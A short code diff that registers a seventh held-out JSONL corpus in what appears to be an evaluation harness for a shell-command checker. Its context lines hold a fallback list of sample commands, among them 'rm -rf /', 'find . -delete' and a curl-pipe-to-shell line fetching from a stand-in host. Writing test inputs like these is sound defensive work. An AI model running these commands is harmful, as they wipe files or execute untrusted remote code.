@@ -38,6 +38,7 @@ CORPORA = {
     "own held-out 4": OWN / "held_out_4.jsonl",
     "own held-out 5": OWN / "held_out_5.jsonl",
     "own held-out 6": OWN / "held_out_6.jsonl",
+    "own held-out 7": OWN / "held_out_7.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
 CTX = CommandContext(
